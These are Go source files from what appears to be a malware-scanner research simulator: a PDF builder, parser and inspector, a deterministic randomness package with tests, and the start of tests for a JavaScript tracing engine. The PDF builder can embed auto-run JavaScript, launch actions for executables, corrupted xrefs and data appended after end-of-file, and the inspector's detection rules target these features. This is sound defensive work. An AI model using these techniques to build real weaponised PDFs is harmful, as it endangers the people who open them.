// Builder composes a document.
type Builder struct {
	objects []*Object
	// openAction references an action object to fire on open.
	openAction int
	// breakXref deliberately corrupts the xref table.
	breakXref bool
	// appendAfterEOF plants content after %%EOF (an appended-payload
	// trick).
	appendAfterEOF string
}

// NewBuilder starts a minimal one-page document (catalog 1, pages 2,
// page 3, contents 4).
func NewBuilder() *Builder {
	b := &Builder{}
	b.objects = []*Object{
		{Num: 1, Dict: map[string]string{"Type": "/Catalog", "Pages": "2 0 R"}},
		{Num: 2, Dict: map[string]string{"Type": "/Pages", "Kids": "[3 0 R]", "Count": "1"}},
		{Num: 3, Dict: map[string]string{"Type": "/Page", "Parent": "2 0 R", "Contents": "4 0 R"}},
		{Num: 4, Dict: map[string]string{"Length": "44"}, Stream: "BT /F1 12 Tf 72 720 Td (Hello) Tj ET"},
	}
	return b
}

// nextNum returns the next free object number.
func (b *Builder) nextNum() int {
	maxN := 0
	for _, o := range b.objects {
		if o.Num > maxN {
			maxN = o.Num
		}
	}
	return maxN + 1
}

// AddJavaScriptAction attaches an /OpenAction running the given
// JavaScript when the document opens — the auto-execution vehicle of the
// era's exploit PDFs.
func (b *Builder) AddJavaScriptAction(js string) *Builder {
	n := b.nextNum()
	b.objects = append(b.objects, &Object{
		Num: n,
		Dict: map[string]string{
			"Type": "/Action", "S": "/JavaScript",
			"JS": "(" + escapePDFString(js) + ")",
		},
	})
	b.openAction = n
	return b
}

// AddLaunchAction attaches an /OpenAction launching an external file —
// the dropper vehicle.
func (b *Builder) AddLaunchAction(file string) *Builder {
	n := b.nextNum()
	b.objects = append(b.objects, &Object{
		Num: n,
		Dict: map[string]string{
			"Type": "/Action", "S": "/Launch",
			"F": "(" + escapePDFString(file) + ")",
		},
	})
	b.openAction = n
	return b
}

// BreakXref corrupts the cross-reference offsets (naive parsers die;
// forgiving readers recover by scanning).
func (b *Builder) BreakXref() *Builder {
	b.breakXref = true
	return b
}

// AppendAfterEOF plants raw content after the %%EOF marker.
func (b *Builder) AppendAfterEOF(content string) *Builder {
	b.appendAfterEOF = content
	return b
}

// Encode renders the document bytes.
func (b *Builder) Encode() []byte {
	var sb strings.Builder
	sb.WriteString(header + "\n")
	offsets := make(map[int]int, len(b.objects))
	for _, o := range b.objects {
		offsets[o.Num] = sb.Len()
		fmt.Fprintf(&sb, "%d 0 obj\n<<", o.Num)
		for _, k := range sortedDictKeys(o.Dict) {
			fmt.Fprintf(&sb, " /%s %s", k, o.Dict[k])
		}
		if b.openAction != 0 && o.Num == 1 {
			fmt.Fprintf(&sb, " /OpenAction %d 0 R", b.openAction)
		}
		sb.WriteString(" >>\n")
		if o.Stream != "" {
			sb.WriteString("stream\n")
			sb.WriteString(o.Stream)
			sb.WriteString("\nendstream\n")
		}
		sb.WriteString("endobj\n")
	}
	xrefAt := sb.Len()
	fmt.Fprintf(&sb, "xref\n0 %d\n0000000000 65535 f \n", len(b.objects)+1)
	for _, o := range b.objects {
		off := offsets[o.Num]
		if b.breakXref {
			off = off*3 + 17 // garbage offsets
		}
		fmt.Fprintf(&sb, "%010d 00000 n \n", off)
	}
	fmt.Fprintf(&sb, "trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%s\n",
		len(b.objects)+1, xrefAt, footer)
	if b.appendAfterEOF != "" {
		sb.WriteString(b.appendAfterEOF)
	}
	return []byte(sb.String())
}

func sortedDictKeys(m map[string]string) []string {
	keys := make([]string, 0, len(m))
	for k := range m {
		keys = append(keys, k)
	}
	for i := 1; i < len(keys); i++ {
		for j := i; j > 0 && keys[j] < keys[j-1]; j-- {
			keys[j], keys[j-1] = keys[j-1], keys[j]
		}
	}
	return keys
}

func escapePDFString(s string) string {
	s = strings.ReplaceAll(s, "\\", "\\\\")
	s = strings.ReplaceAll(s, "(", "\\(")
	s = strings.ReplaceAll(s, ")", "\\)")
	return s
}

// --- parsing ---

// Parse reads a document, scanning the object graph directly (xref is
// validated but never trusted). It returns a best-effort Document even
// for malformed inputs; only non-PDF input errors.
func Parse(data []byte) (*Document, error) {
	raw := string(data)
	doc := &Document{Objects: make(map[int]*Object), Raw: raw}
	if !strings.HasPrefix(raw, "%PDF-") {
		if !strings.Contains(raw, "%PDF-") {
			return nil, fmt.Errorf("pdf: not a PDF document")
		}
		doc.Malformations = append(doc.Malformations, "missing-header")
	}
	eof := strings.LastIndex(raw, footer)
	if eof < 0 {
		doc.Malformations = append(doc.Malformations, "missing-eof")
	} else if strings.TrimSpace(raw[eof+len(footer):]) != "" {
		doc.Malformations = append(doc.Malformations, "content-after-eof")
	}

	// Scan objects.
	rest := raw
	base := 0
	for {
		objIdx, num := findObjStart(rest)
		if objIdx < 0 {
			break
		}
		bodyStart := objIdx
		end := strings.Index(rest[bodyStart:], "endobj")
		if end < 0 {
			doc.Malformations = append(doc.Malformations, "unterminated-object")
			break
		}
		body := rest[bodyStart : bodyStart+end]
		obj := &Object{Num: num, Dict: parseDict(body)}
		if s := extractStream(body); s != "" {
			obj.Stream = s
		}
		if _, dup := doc.Objects[num]; dup {
			doc.Malformations = append(doc.Malformations, "duplicate-object")
		}
		doc.Objects[num] = obj
		advance := bodyStart + end + len("endobj")
		rest = rest[advance:]
		base += advance
	}

	// Validate xref offsets against actual object positions.
	if strings.Contains(raw, "xref") && xrefBroken(raw) {
		doc.Malformations = append(doc.Malformations, "bad-xref")
	}
	return doc, nil
}

// findObjStart locates the next "N 0 obj" marker, returning the offset
// just past it and the object number.
func findObjStart(s string) (int, int) {
	idx := 0
	for {
		objAt := strings.Index(s[idx:], " 0 obj")
		if objAt < 0 {
			return -1, 0
		}
		objAt += idx
		// Walk back over the digits of N.
		numEnd := objAt
		numStart := numEnd
		for numStart > 0 && s[numStart-1] >= '0' && s[numStart-1] <= '9' {
			numStart--
		}
		if numStart == numEnd {
			idx = objAt + 1
			continue
		}
		n, err := strconv.Atoi(s[numStart:numEnd])
		if err != nil {
			idx = objAt + 1
			continue
		}
		return objAt + len(" 0 obj"), n
	}
}

// parseDict extracts flat key/value pairs from the first << ... >> block.
func parseDict(body string) map[string]string {
	out := make(map[string]string)
	start := strings.Index(body, "<<")
	if start < 0 {
		return out
	}
	depth := 0
	end := -1
	for i := start; i < len(body)-1; i++ {
		switch {
		case body[i] == '<' && body[i+1] == '<':
			depth++
			i++
		case body[i] == '>' && body[i+1] == '>':
			depth--
			i++
			if depth == 0 {
				end = i
			}
		}
		if end >= 0 {
			break
		}
	}
	lo, hi := start+2, end-1
	if end < 0 {
		// Unterminated dict: take everything after "<<".
		hi = len(body)
	}
	if hi < lo {
		hi = lo
	}
	inner := body[lo:hi]
	i := 0
	for i < len(inner) {
		slash := strings.IndexByte(inner[i:], '/')
		if slash < 0 {
			break
		}
		i += slash + 1
		keyEnd := i
		for keyEnd < len(inner) && isNameChar(inner[keyEnd]) {
			keyEnd++
		}
		key := inner[i:keyEnd]
		i = keyEnd
		// Value runs until the next top-level '/name' that starts a key
		// or end of dict. Handle parenthesized strings so slashes inside
		// them do not split.
		val, next := parseValue(inner, i)
		if key != "" {
			out[key] = strings.TrimSpace(val)
		}
		i = next
	}
	return out
}

func isNameChar(c byte) bool {
	return (c >= 'A' && c <= 'Z') || (c >= 'a' && c <= 'z') || (c >= '0' && c <= '9')
}

// parseValue reads the raw value text following a dictionary key. A
// value may itself be a name (/JavaScript): the leading slash of the
// value must not be mistaken for the next key, so name-valued content is
// consumed before the top-level-slash scan begins.
func parseValue(s string, i int) (string, int) {
	start := i
	// Skip leading whitespace.
	for i < len(s) && (s[i] == ' ' || s[i] == '\n' || s[i] == '\r' || s[i] == '\t') {
		i++
	}
	// A name value: consume "/Name" as part of the value.
	if i < len(s) && s[i] == '/' {
		i++
		for i < len(s) && isNameChar(s[i]) {
			i++
		}
	}
	depthPar, depthBr, depthDict := 0, 0, 0
	for i < len(s) {
		c := s[i]
		switch c {
		case '(':
			if prevIsEscape(s, i) {
				break
			}
			depthPar++
		case ')':
			if prevIsEscape(s, i) {
				break
			}
			if depthPar > 0 {
				depthPar--
			}
		case '[':
			depthBr++
		case ']':
			if depthBr > 0 {
				depthBr--
			}
		case '<':
			if i+1 < len(s) && s[i+1] == '<' {
				depthDict++
				i++
			}
		case '>':
			if i+1 < len(s) && s[i+1] == '>' {
				if depthDict > 0 {
					depthDict--
				}
				i++
			}
		case '/':
			if depthPar == 0 && depthBr == 0 && depthDict == 0 && i > start {
				return s[start:i], i
			}
		}
		i++
	}
	return s[start:], i
}

func prevIsEscape(s string, i int) bool {
	return i > 0 && s[i-1] == '\\'
}

func extractStream(body string) string {
	start := strings.Index(body, "stream")
	if start < 0 {
		return ""
	}
	start += len("stream")
	for start < len(body) && (body[start] == '\r' || body[start] == '\n') {
		start++
	}
	end := strings.Index(body[start:], "endstream")
	if end < 0 {
		return strings.TrimSpace(body[start:])
	}
	return strings.TrimRight(body[start:start+end], "\r\n")
}

// xrefBroken cross-checks the first xref entry offsets against real
// object positions.
func xrefBroken(raw string) bool {
	xrefAt := strings.Index(raw, "xref")
	if xrefAt < 0 {
		return false
	}
	lines := strings.Split(raw[xrefAt:], "\n")
	if len(lines) < 3 {
		// Truncated table: no entries to validate.
		return false
	}
	checked := 0
	for _, line := range lines[2:] { // skip "xref" and the subsection line
		fields := strings.Fields(line)
		if len(fields) < 3 || fields[2] != "n" {
			continue
		}
		off, err := strconv.Atoi(fields[0])
		if err != nil {
			return true
		}
		if off >= len(raw) {
			return true
		}
		// A valid in-use entry points at "N 0 obj".
		tail := raw[off:]
		if !looksLikeObjStart(tail) {
			return true
		}
		checked++
		if checked >= 4 {
			break
		}
	}
	return false
}

func looksLikeObjStart(s string) bool {
	i := 0
	for i < len(s) && s[i] >= '0' && s[i] <= '9' {
		i++
	}
	return i > 0 && strings.HasPrefix(s[i:], " 0 obj")
}

// --- inspection ---

// Findings summarizes a document's threat-relevant features.
type Findings struct {
	// OpenActionJS is the JavaScript wired to fire on open ("" if none).
	OpenActionJS string
	// LaunchTarget is the external file a /Launch action starts.
	LaunchTarget string
	// Malformations echoes the parser's structural defects.
	Malformations []string
	// HasJavaScript reports any /JavaScript action, auto-open or not.
	HasJavaScript bool
}

// Malicious applies the scanner heuristic: auto-open JavaScript, a
// Launch action on an executable, or JavaScript combined with deliberate
// malformation.
func (f Findings) Malicious() bool {
	if f.OpenActionJS != "" {
		return true
	}
	if t := strings.ToLower(f.LaunchTarget); strings.HasSuffix(t, ".exe") ||
		strings.HasSuffix(t, ".scr") || strings.HasSuffix(t, ".bat") {
		return true
	}
	return f.HasJavaScript && len(f.Malformations) > 0
}

// Inspect parses and summarizes a document.
func Inspect(data []byte) (Findings, error) {
	doc, err := Parse(data)
	if err != nil {
		return Findings{}, err
	}
	f := Findings{Malformations: doc.Malformations}

	// Resolve the catalog's OpenAction reference.
	openRef := 0
	if cat := doc.catalog(); cat != nil {
		if ref, ok := cat.Dict["OpenAction"]; ok {
			openRef = parseRef(ref)
		}
	}
	for num, obj := range doc.Objects {
		s := obj.Dict["S"]
		switch s {
		case "/JavaScript":
			f.HasJavaScript = true
			js := stripPDFString(obj.Dict["JS"])
			if num == openRef {
				f.OpenActionJS = js
			}
		case "/Launch":
			if num == openRef || openRef == 0 {
				f.LaunchTarget = stripPDFString(obj.Dict["F"])
			}
		}
	}
	return f, nil
}

// catalog returns the /Type /Catalog object, if present.
func (d *Document) catalog() *Object {
	for _, o := range d.Objects {
		if o.Dict["Type"] == "/Catalog" {
			return o
		}
	}
	return nil
}

// parseRef reads "N 0 R" into N.
func parseRef(s string) int {
	fields := strings.Fields(strings.TrimSpace(s))
	if len(fields) < 1 {
		return 0
	}
	n, err := strconv.Atoi(fields[0])
	if err != nil {
		return 0
	}
	return n
}

// stripPDFString unwraps a (…) literal and its escapes.
func stripPDFString(s string) string {
	s = strings.TrimSpace(s)
	if !strings.HasPrefix(s, "(") {
		return s
	}
	s = strings.TrimPrefix(s, "(")
	s = strings.TrimSuffix(s, ")")
	s = strings.ReplaceAll(s, "\\(", "(")
	s = strings.ReplaceAll(s, "\\)", ")")
	s = strings.ReplaceAll(s, "\\\\", "\\")
	return s
}
