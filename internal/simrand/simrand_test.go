package simrand

import (
	"math"
	"testing"
	"testing/quick"
)

func TestDeterminism(t *testing.T) {
	a := New(42)
	b := New(42)
	for i := 0; i < 1000; i++ {
		if av, bv := a.Int63(), b.Int63(); av != bv {
			t.Fatalf("iteration %d: sources diverged: %d != %d", i, av, bv)
		}
	}
}

func TestSubStreamsIndependentOfParentConsumption(t *testing.T) {
	a := New(7)
	b := New(7)
	// Consume different amounts from the parents.
	for i := 0; i < 100; i++ {
		a.Int63()
	}
	b.Int63()
	sa := a.Sub("web")
	sb := b.Sub("web")
	for i := 0; i < 100; i++ {
		if sa.Int63() != sb.Int63() {
			t.Fatal("Sub streams depend on parent consumption; they must not")
		}
	}
}

func TestSubStreamsDifferByName(t *testing.T) {
	s := New(7)
	x := s.Sub("alpha")
	y := s.Sub("beta")
	same := 0
	for i := 0; i < 64; i++ {
		if x.Int63() == y.Int63() {
			same++
		}
	}
	if same == 64 {
		t.Fatal("differently named sub-streams produced identical output")
	}
}

func TestRangeInclusive(t *testing.T) {
	s := New(1)
	seenLo, seenHi := false, false
	for i := 0; i < 10000; i++ {
		v := s.Range(3, 5)
		if v < 3 || v > 5 {
			t.Fatalf("Range(3,5) produced %d", v)
		}
		if v == 3 {
			seenLo = true
		}
		if v == 5 {
			seenHi = true
		}
	}
	if !seenLo || !seenHi {
		t.Fatal("Range did not cover both endpoints in 10k draws")
	}
}

func TestRangePanicsOnInvalid(t *testing.T) {
	defer func() {
		if recover() == nil {
			t.Fatal("expected panic for hi < lo")
		}
	}()
	New(1).Range(5, 3)
}

func TestBoolEdges(t *testing.T) {
	s := New(1)
	for i := 0; i < 100; i++ {
		if s.Bool(0) {
			t.Fatal("Bool(0) returned true")
		}
		if !s.Bool(1) {
			t.Fatal("Bool(1) returned false")
		}
	}
}

func TestBoolFrequency(t *testing.T) {
	s := New(99)
	n, hits := 100000, 0
	for i := 0; i < n; i++ {
		if s.Bool(0.3) {
			hits++
		}
	}
	got := float64(hits) / float64(n)
	if math.Abs(got-0.3) > 0.02 {
		t.Fatalf("Bool(0.3) frequency = %v, want ~0.3", got)
	}
}

func TestWeightedDistribution(t *testing.T) {
	s := New(5)
	w := NewWeighted([]float64{1, 0, 3})
	counts := make([]int, 3)
	n := 100000
	for i := 0; i < n; i++ {
		counts[w.Sample(s)]++
	}
	if counts[1] != 0 {
		t.Fatalf("zero-weight bucket sampled %d times", counts[1])
	}
	ratio := float64(counts[2]) / float64(counts[0])
	if ratio < 2.7 || ratio > 3.3 {
		t.Fatalf("weight-3 / weight-1 ratio = %v, want ~3", ratio)
	}
}

func TestWeightedPanics(t *testing.T) {
	cases := []struct {
		name    string
		weights []float64
	}{
		{"empty", nil},
		{"all-zero", []float64{0, 0}},
		{"negative", []float64{1, -1}},
		{"nan", []float64{math.NaN()}},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			defer func() {
				if recover() == nil {
					t.Fatalf("NewWeighted(%v) did not panic", tc.weights)
				}
			}()
			NewWeighted(tc.weights)
		})
	}
}

func TestGeometricMean(t *testing.T) {
	s := New(11)
	p := 0.25
	n, sum := 50000, 0
	for i := 0; i < n; i++ {
		v := s.Geometric(p)
		if v < 1 {
			t.Fatalf("Geometric returned %d < 1", v)
		}
		sum += v
	}
	mean := float64(sum) / float64(n)
	if math.Abs(mean-1/p) > 0.15 {
		t.Fatalf("Geometric(%v) mean = %v, want ~%v", p, mean, 1/p)
	}
}

func TestGeometricPEqualsOne(t *testing.T) {
	s := New(1)
	for i := 0; i < 10; i++ {
		if v := s.Geometric(1); v != 1 {
			t.Fatalf("Geometric(1) = %d, want 1", v)
		}
	}
}

func TestPickNDistinct(t *testing.T) {
	s := New(3)
	items := []int{1, 2, 3, 4, 5, 6, 7, 8}
	out := PickN(s, items, 4)
	if len(out) != 4 {
		t.Fatalf("PickN returned %d items, want 4", len(out))
	}
	seen := map[int]bool{}
	for _, v := range out {
		if seen[v] {
			t.Fatalf("PickN returned duplicate %d", v)
		}
		seen[v] = true
	}
}

func TestPickNMoreThanAvailable(t *testing.T) {
	s := New(3)
	items := []int{1, 2, 3}
	out := PickN(s, items, 10)
	if len(out) != 3 {
		t.Fatalf("PickN(n>len) returned %d items, want 3", len(out))
	}
}

func TestZipfSkew(t *testing.T) {
	s := New(21)
	z := NewZipf(s, 1.5, 100)
	counts := make([]int, 100)
	for i := 0; i < 100000; i++ {
		counts[z.Sample()]++
	}
	if counts[0] <= counts[50] {
		t.Fatalf("zipf not skewed: counts[0]=%d counts[50]=%d", counts[0], counts[50])
	}
}

func TestWordProperties(t *testing.T) {
	f := func(seed uint64) bool {
		s := New(seed)
		w := s.Word(3, 9)
		if len(w) < 3 || len(w) > 9 {
			return false
		}
		for _, c := range w {
			if c < 'a' || c > 'z' {
				return false
			}
		}
		return true
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 200}); err != nil {
		t.Fatal(err)
	}
}

func TestTokenProperties(t *testing.T) {
	f := func(seed uint64) bool {
		s := New(seed)
		tok := s.Token(12)
		hx := s.HexToken(8)
		if len(tok) != 12 || len(hx) != 8 {
			return false
		}
		for _, c := range hx {
			isHex := (c >= '0' && c <= '9') || (c >= 'a' && c <= 'f')
			if !isHex {
				return false
			}
		}
		return true
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 200}); err != nil {
		t.Fatal(err)
	}
}

func TestNormDistribution(t *testing.T) {
	s := New(13)
	n := 50000
	sum, sumSq := 0.0, 0.0
	for i := 0; i < n; i++ {
		v := s.Norm(10, 2)
		sum += v
		sumSq += v * v
	}
	mean := sum / float64(n)
	variance := sumSq/float64(n) - mean*mean
	if math.Abs(mean-10) > 0.1 {
		t.Fatalf("Norm mean = %v, want ~10", mean)
	}
	if math.Abs(math.Sqrt(variance)-2) > 0.1 {
		t.Fatalf("Norm stddev = %v, want ~2", math.Sqrt(variance))
	}
}

func BenchmarkWeightedSample(b *testing.B) {
	s := New(1)
	w := NewWeighted([]float64{5, 3, 2, 1, 0.5, 0.25})
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		w.Sample(s)
	}
}

func BenchmarkWord(b *testing.B) {
	s := New(1)
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		s.Word(4, 12)
	}
}

func TestSeedAccessor(t *testing.T) {
	if New(99).Seed() != 99 {
		t.Fatal("Seed() mismatch")
	}
}

func TestExpMean(t *testing.T) {
	s := New(17)
	n, sum := 50000, 0.0
	for i := 0; i < n; i++ {
		v := s.Exp(4)
		if v < 0 {
			t.Fatalf("Exp returned negative %v", v)
		}
		sum += v
	}
	if mean := sum / float64(n); math.Abs(mean-4) > 0.2 {
		t.Fatalf("Exp(4) mean = %v", mean)
	}
}

func TestPickAndWeightedPick(t *testing.T) {
	s := New(3)
	items := []string{"a", "b", "c"}
	seen := map[string]bool{}
	for i := 0; i < 100; i++ {
		seen[Pick(s, items)] = true
	}
	if len(seen) != 3 {
		t.Fatalf("Pick coverage = %v", seen)
	}
	counts := map[string]int{}
	for i := 0; i < 10000; i++ {
		counts[WeightedPick(s, items, []float64{0, 1, 3})]++
	}
	if counts["a"] != 0 {
		t.Fatal("zero-weight item picked")
	}
	if counts["c"] < counts["b"] {
		t.Fatalf("weighting ignored: %v", counts)
	}
}

func TestPickPanicsOnEmpty(t *testing.T) {
	defer func() {
		if recover() == nil {
			t.Fatal("Pick on empty slice did not panic")
		}
	}()
	Pick(New(1), []int{})
}

func TestWeightedPickLengthMismatchPanics(t *testing.T) {
	defer func() {
		if recover() == nil {
			t.Fatal("length mismatch did not panic")
		}
	}()
	WeightedPick(New(1), []int{1, 2}, []float64{1})
}

func TestLowerToken(t *testing.T) {
	s := New(5)
	tok := s.LowerToken(10)
	if len(tok) != 10 {
		t.Fatalf("len = %d", len(tok))
	}
	for _, c := range tok {
		if c < 'a' || c > 'z' {
			t.Fatalf("non-alpha %q in %q", c, tok)
		}
	}
}

func TestNewZipfPanicsOnZero(t *testing.T) {
	defer func() {
		if recover() == nil {
			t.Fatal("NewZipf(n=0) did not panic")
		}
	}()
	NewZipf(New(1), 1.5, 0)
}
