// Package simrand provides deterministic, seedable randomness helpers used
// throughout the simulator. Every stochastic component of the reproduction
// (universe generation, exchange rotation, scanner noise) draws from a
// simrand.Source so that a single seed reproduces an entire experiment
// bit-for-bit.
//
// The package wraps math/rand (stdlib only) and adds weighted choice, Zipf
// sampling, stable named sub-streams, and a few distribution helpers the
// workload generators need.
package simrand

import (
	"fmt"
	"hash/fnv"
	"math"
	"math/rand"
	"sort"
)

// Source is a deterministic random source. It is NOT safe for concurrent
// use; derive per-goroutine sources with Sub.
type Source struct {
	rng  *rand.Rand
	seed uint64
}

// New returns a Source seeded with seed.
func New(seed uint64) *Source {
	return &Source{
		rng:  rand.New(rand.NewSource(int64(seed))),
		seed: seed,
	}
}

// Seed returns the seed the source was created with.
func (s *Source) Seed() uint64 { return s.seed }

// Sub derives a new independent Source from this source's seed and a name.
// Two Sub calls with the same name on sources with the same seed yield
// identical streams, regardless of how much randomness has been consumed
// from the parent. This keeps experiment components independent: consuming
// more randomness in one subsystem does not shift another subsystem's
// stream.
func (s *Source) Sub(name string) *Source {
	h := fnv.New64a()
	var buf [8]byte
	for i := 0; i < 8; i++ {
		buf[i] = byte(s.seed >> (8 * i))
	}
	h.Write(buf[:])
	h.Write([]byte(name))
	return New(h.Sum64())
}

// Intn returns a uniform int in [0, n). It panics if n <= 0, matching
// math/rand semantics.
func (s *Source) Intn(n int) int { return s.rng.Intn(n) }

// Int63 returns a non-negative 63-bit integer.
func (s *Source) Int63() int64 { return s.rng.Int63() }

// Float64 returns a uniform float64 in [0, 1).
func (s *Source) Float64() float64 { return s.rng.Float64() }

// Bool returns true with probability p.
func (s *Source) Bool(p float64) bool {
	if p <= 0 {
		return false
	}
	if p >= 1 {
		return true
	}
	return s.rng.Float64() < p
}

// Range returns a uniform int in [lo, hi] inclusive. It panics if hi < lo.
func (s *Source) Range(lo, hi int) int {
	if hi < lo {
		panic(fmt.Sprintf("simrand: invalid range [%d, %d]", lo, hi))
	}
	return lo + s.rng.Intn(hi-lo+1)
}

// Norm returns a normally distributed float64 with the given mean and
// standard deviation.
func (s *Source) Norm(mean, stddev float64) float64 {
	return mean + stddev*s.rng.NormFloat64()
}

// Exp returns an exponentially distributed float64 with the given mean.
func (s *Source) Exp(mean float64) float64 {
	return s.rng.ExpFloat64() * mean
}

// Geometric returns a geometrically distributed integer >= 1 with success
// probability p (the number of Bernoulli trials up to and including the
// first success). p must be in (0, 1].
func (s *Source) Geometric(p float64) int {
	if p <= 0 || p > 1 {
		panic(fmt.Sprintf("simrand: invalid geometric p=%v", p))
	}
	if p == 1 {
		return 1
	}
	u := s.rng.Float64()
	// Inverse CDF: ceil(ln(1-u) / ln(1-p)).
	n := int(math.Ceil(math.Log(1-u) / math.Log(1-p)))
	if n < 1 {
		n = 1
	}
	return n
}

// Perm returns a random permutation of [0, n).
func (s *Source) Perm(n int) []int { return s.rng.Perm(n) }

// Shuffle pseudo-randomizes the order of n elements using swap.
func (s *Source) Shuffle(n int, swap func(i, j int)) { s.rng.Shuffle(n, swap) }

// Pick returns a uniformly random element of items. It panics on an empty
// slice.
func Pick[T any](s *Source, items []T) T {
	if len(items) == 0 {
		panic("simrand: Pick from empty slice")
	}
	return items[s.Intn(len(items))]
}

// PickN returns n distinct uniformly random elements of items (or all of
// them if n >= len(items)), in random order.
func PickN[T any](s *Source, items []T, n int) []T {
	if n >= len(items) {
		out := make([]T, len(items))
		copy(out, items)
		s.Shuffle(len(out), func(i, j int) { out[i], out[j] = out[j], out[i] })
		return out
	}
	perm := s.Perm(len(items))
	out := make([]T, 0, n)
	for _, idx := range perm[:n] {
		out = append(out, items[idx])
	}
	return out
}

// Weighted selects an index in [0, len(weights)) with probability
// proportional to weights[i]. Zero weights are allowed; negative weights
// and an all-zero weight vector panic.
type Weighted struct {
	cum []float64
}

// NewWeighted builds a reusable weighted sampler.
func NewWeighted(weights []float64) *Weighted {
	if len(weights) == 0 {
		panic("simrand: NewWeighted with no weights")
	}
	cum := make([]float64, len(weights))
	total := 0.0
	for i, w := range weights {
		if w < 0 || math.IsNaN(w) || math.IsInf(w, 0) {
			panic(fmt.Sprintf("simrand: invalid weight %v at index %d", w, i))
		}
		total += w
		cum[i] = total
	}
	if total <= 0 {
		panic("simrand: all weights are zero")
	}
	return &Weighted{cum: cum}
}

// Sample draws an index from the weighted distribution.
func (w *Weighted) Sample(s *Source) int {
	total := w.cum[len(w.cum)-1]
	u := s.Float64() * total
	idx := sort.SearchFloat64s(w.cum, u)
	// SearchFloat64s returns the first index with cum >= u; if u lands
	// exactly on a boundary we may get an index whose own weight is zero,
	// so walk forward to the next positive-weight bucket.
	for idx < len(w.cum)-1 && w.weightAt(idx) == 0 {
		idx++
	}
	if idx >= len(w.cum) {
		idx = len(w.cum) - 1
	}
	return idx
}

func (w *Weighted) weightAt(i int) float64 {
	if i == 0 {
		return w.cum[0]
	}
	return w.cum[i] - w.cum[i-1]
}

// WeightedPick is a convenience that builds a one-shot weighted sampler
// over items with the given weights and returns one item.
func WeightedPick[T any](s *Source, items []T, weights []float64) T {
	if len(items) != len(weights) {
		panic("simrand: WeightedPick length mismatch")
	}
	return items[NewWeighted(weights).Sample(s)]
}

// Zipf samples integers in [0, n) following a Zipf distribution with
// exponent theta. Used for popularity skew (a few domains absorb most
// traffic, matching the heavy-tailed referral pattern the paper observes).
type Zipf struct {
	z *rand.Zipf
}

// NewZipf builds a Zipf sampler over [0, n) with exponent theta (> 1).
func NewZipf(s *Source, theta float64, n uint64) *Zipf {
	if n == 0 {
		panic("simrand: NewZipf with n=0")
	}
	z := rand.NewZipf(s.rng, theta, 1, n-1)
	if z == nil {
		panic(fmt.Sprintf("simrand: invalid zipf params theta=%v n=%d", theta, n))
	}
	return &Zipf{z: z}
}

// Sample draws one value.
func (z *Zipf) Sample() uint64 { return z.z.Uint64() }

// Letters used by identifier generators.
const lowerAlpha = "abcdefghijklmnopqrstuvwxyz"
const alphaNum = "abcdefghijklmnopqrstuvwxyz0123456789"

// Word returns a pronounceable-ish lowercase word of length in [minLen,
// maxLen], alternating consonant/vowel clusters. Used for synthetic domain
// and path names.
func (s *Source) Word(minLen, maxLen int) string {
	const vowels = "aeiou"
	const consonants = "bcdfghjklmnpqrstvwxyz"
	n := s.Range(minLen, maxLen)
	buf := make([]byte, n)
	useVowel := s.Bool(0.4)
	for i := 0; i < n; i++ {
		if useVowel {
			buf[i] = vowels[s.Intn(len(vowels))]
		} else {
			buf[i] = consonants[s.Intn(len(consonants))]
		}
		useVowel = !useVowel
	}
	return string(buf)
}

// Token returns a random lowercase alphanumeric token of length n, like
// the opaque IDs shorteners and ad trackers use.
func (s *Source) Token(n int) string {
	buf := make([]byte, n)
	for i := range buf {
		buf[i] = alphaNum[s.Intn(len(alphaNum))]
	}
	return string(buf)
}

// LowerToken returns a random lowercase alphabetic token of length n.
func (s *Source) LowerToken(n int) string {
	buf := make([]byte, n)
	for i := range buf {
		buf[i] = lowerAlpha[s.Intn(len(lowerAlpha))]
	}
	return string(buf)
}

// HexToken returns a random lowercase hex string of length n.
func (s *Source) HexToken(n int) string {
	const hexDigits = "0123456789abcdef"
	buf := make([]byte, n)
	for i := range buf {
		buf[i] = hexDigits[s.Intn(len(hexDigits))]
	}
	return string(buf)
}
