package jsengine

import (
	"strings"
	"testing"
)

// These tests exercise the dialect's corners: operators, conversions,
// escapes, host-object behaviours, and the defensive paths malware text
// routinely hits.

func TestCommentsSkipped(t *testing.T) {
	tr := mustTrace(t, `
// line comment with <iframe> text that must not matter
/* block comment
   spanning lines */
document.write("after"); // trailing
/* unterminated block comment swallows the rest
document.write("never");
`)
	if len(tr.Writes) != 1 || tr.Writes[0] != "after" {
		t.Fatalf("writes = %v", tr.Writes)
	}
}

func TestStringEscapes(t *testing.T) {
	tr := mustTrace(t, `document.write("a\tb\nc\x41B\q");`)
	want := "a\tb\nc" + "AB" + "q"
	if tr.Writes[0] != want {
		t.Fatalf("write = %q, want %q", tr.Writes[0], want)
	}
}

func TestBadHexEscapesDegrade(t *testing.T) {
	// \xZZ and \uZZZZ with bad digits degrade to the letter, not a crash.
	tr := mustTrace(t, `document.write("\xZZ\uQQQQ");`)
	if !strings.Contains(tr.Writes[0], "x") || !strings.Contains(tr.Writes[0], "u") {
		t.Fatalf("write = %q", tr.Writes[0])
	}
}

func TestHexNumbers(t *testing.T) {
	tr := mustTrace(t, `document.write(0x10 + 1);`)
	if tr.Writes[0] != "17" {
		t.Fatalf("write = %q", tr.Writes[0])
	}
}

func TestCompoundAssignment(t *testing.T) {
	tr := mustTrace(t, `
var s = "http://";
s += "evil.example";
var n = 10;
n -= 3;
var o = document.getElementById("x");
o.count = 1;
o.count += 4;
document.write(s);
document.write(n);
document.write(o.count);
`)
	if tr.Writes[0] != "http://evil.example" || tr.Writes[1] != "7" || tr.Writes[2] != "5" {
		t.Fatalf("writes = %v", tr.Writes)
	}
}

func TestTypeof(t *testing.T) {
	tr := mustTrace(t, `
document.write(typeof "s");
document.write(typeof 1);
document.write(typeof true);
document.write(typeof undefined);
document.write(typeof document);
document.write(typeof unescape);
`)
	want := []string{"string", "number", "boolean", "undefined", "object", "function"}
	for i, w := range want {
		if tr.Writes[i] != w {
			t.Fatalf("typeof write[%d] = %q, want %q", i, tr.Writes[i], w)
		}
	}
}

func TestComparisonsAndLogic(t *testing.T) {
	tr := mustTrace(t, `
if (2 < 3 && 3 <= 3 && 4 > 1 && 4 >= 4) { document.write("rel"); }
